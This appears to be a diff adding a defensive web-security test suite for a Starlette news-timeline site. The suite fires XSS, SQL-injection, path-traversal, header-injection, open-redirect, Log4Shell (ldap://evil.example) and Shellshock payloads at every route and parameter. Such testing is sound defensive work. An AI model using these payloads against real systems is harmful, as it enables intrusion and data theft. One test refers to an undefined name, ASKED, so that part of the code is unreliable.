@@ -1,0 +1,166 @@
+"""Hostile input: whatever is sent to any address, nothing runs, nothing leaks, nothing of ours fails."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from lxml import html
+from starlette.routing import Route
+from starlette.testclient import TestClient
+
+from legation.record.record import Record
+from legation.views.web.app import routes
+from tests.record.told import article, put, record_of
+from tests.views.web.conftest import client_of
+
+#: What OWASP's cheat sheets and lists throw at sites: script, SQL, paths, templates, headers, encodings, directions.
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'\"()&%<acx><ScRiPt >alert(1)</ScRiPt>",
+    "javascript:alert(1)",
+    "</title><svg/onload=alert(1)>",
+    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
+    "' OR '1'='1' --",
+    "1; DROP TABLE line",
+    "') UNION SELECT sql FROM sqlite_master --",
+    '" NEAR(" * ^ : - (',
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "....//....//etc/passwd",
+    "C:\\windows\\win.ini",
+    "file:///etc/passwd",
+    "\x00",
+    "\r\nSet-Cookie: a=b\r\n\r\n<b>",
+    "%0d%0aLocation:%20https://evil.example",
+    "//evil.example",
+    "\u202egpj.exe",
+    "\u2066\u2067\u2069",
+    "\ud7ff\ue000\ufffe\U0010ffff",
+    "𝕏" * 50,
+    "a" * 900,
+    "9" * 300,
+    "-1",
+    "1e309",
+    "nan",
+    "${jndi:ldap://evil.example/a}",
+    "() { :; }; echo vulnerable",
+    "%",
+    "%u0041",
+    "\N{COMBINING ACUTE ACCENT}" * 200,
+)
+QUERIES = (
+    "q",
+    "after",
+    "since",
+    "until",
+    "year",
+    "status",
+    "type",
+    "kind",
+    "min_sources",
+    "of",
+    "skip",
+    "limit",
+    "token",
+)
+#: Elements and attributes by which something would run or be loaded.
+RUNS = "//script[not(starts-with(@src, '/static/'))] | //iframe | //object | //embed | //base | //style | //*[@style]"
+PATHS = sorted({route.path.replace(":path", "") for route in routes(edit=True) if isinstance(route, Route)})
+
+
+def harmless(page: str) -> None:
+    """Nothing in a page runs or is loaded from elsewhere, and nothing turns its direction."""
+    tree = html.fromstring(page)
+    assert tree.xpath(RUNS) == []
+    for element in tree.iter():
+        assert not any(name.startswith("on") for name in element.attrib), element.attrib
+        for name in ("href", "src", "action"):
+            value = element.get(name, "/")
+            assert value.startswith(("/", "#", "http://", "https://")), value
+            assert not value.startswith("//"), value
+    loaded = tree.xpath("//link[@rel='stylesheet' or @rel='icon']/@href | //script/@src | //img/@src")
+    assert all(re.fullmatch(r"/static/[a-z]+\.[0-9a-f]{12}\.(css|js|svg)", each) for each in loaded)
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page)
+
+
+def filled(path: str, value: str) -> str:
+    """An address with a value in place of every name."""
+    return re.sub(r"\{[a-z]+\}", lambda _: quote(value, safe="", errors="replace"), path)
+
+
+def checked(client: TestClient, address: str) -> None:
+    """An answer that is none of our faults, and harmless."""
+    answer = client.get(address)
+    assert answer.status_code in (200, 301, 400, 404, 414), (address, answer.text)
+    assert "set-cookie" not in answer.headers or "legation" in answer.headers["set-cookie"]
+    assert answer.headers.get("location", "/").startswith("/")
+    assert not answer.headers.get("location", "/").startswith("//")
+    if answer.headers.get("content-type", "").startswith("text/html") and answer.text:
+        harmless(answer.text)
+
+
+@pytest.fixture(scope="module")
+def edited(site_path: Path) -> TestClient:
+    """The site with everything that it has."""
+    return client_of(site_path, edit=True)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload)[:24])
+def test_payloads_in_every_path(edited: TestClient, payload: str) -> None:
+    """Each name of each address."""
+    for path in PATHS:
+        checked(edited, filled(path, payload))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload)[:24])
+def test_payloads_in_every_parameter(edited: TestClient, payload: str) -> None:
+    """Each parameter of the pages that take any."""
+    given = quote(payload, safe="", errors="replace")
+    for path, names in ASKED.items():
+        for name in names:
+            checked(edited, f"{path}?{name}={given}")
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(path=st.sampled_from(PATHS), name=st.sampled_from(QUERIES), value=st.text(max_size=40))
+def test_any_text_anywhere(edited: TestClient, path: str, name: str, value: str) -> None:
+    """Text of every kind, in the path and in a parameter."""
+    checked(edited, f"{filled(path, value)}?{name}={quote(value, safe='', errors='replace')}")
+
+
+def test_a_hostile_article_is_shown_as_text(tmp_path: Path) -> None:
+    """Titles, outlets, addresses, names and text of an article: all are foreign, and none runs on any page."""
+    record = record_of(tmp_path)
+    text = (
+        "The foreign ministers of Portugal and Morocco met in Lisbon on March 14, 2023, <script>alert(1)</script> said"
+        " João \u202eSilva</bdi></p><img src=x onerror=alert(1)>.\n\n" + "x" * 3000 + "\n\n{{ 7 * 7 }} {% raw %}"
+    )
+    for number, payload in enumerate(PAYLOADS):
+        put(record, article(f"{text} {number}", "2023-03-15", f"{payload}{number}", payload.replace("\x00", "") or "x"))
+    lines = record.timeline(limit=5).items
+    cited = {telling.article.id for line in lines for telling in record.show(line.id).tellings}
+    record.close()
+    client = client_of(tmp_path / "test.db", edit=True)
+    pages = ["/", "/coming", "/changes", "/search?q=ministers", "/MAR/PRT", "/judge", "/about", "/map"]
+    pages += [f"/event/{line.id}" for line in lines] + [f"/article/{each}" for each in sorted(cited)]
+    for path in pages:
+        checked(client, path)
+    for path in ("/changes.atom", "/MAR/PRT.feed.json", "/MAR/PRT.ics", "/MAR/PRT.json"):
+        assert client.get(path).status_code == 200
+
+
+def test_no_error_tells_what_is_inside(site_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A fault of ours gives a page of its own, with the same headers, and no trace."""
+    monkeypatch.setattr(Record, "newest_day", lambda self: 1 / 0)
+    client = TestClient(client_of(site_path).app, base_url="http://127.0.0.1:8321", raise_server_exceptions=False)
+    answer = client.get("/")
+    assert answer.status_code == 500
+    assert "Our fault" in answer.text
+    assert "ZeroDivision" not in answer.text
+    assert "content-security-policy" in answer.headers
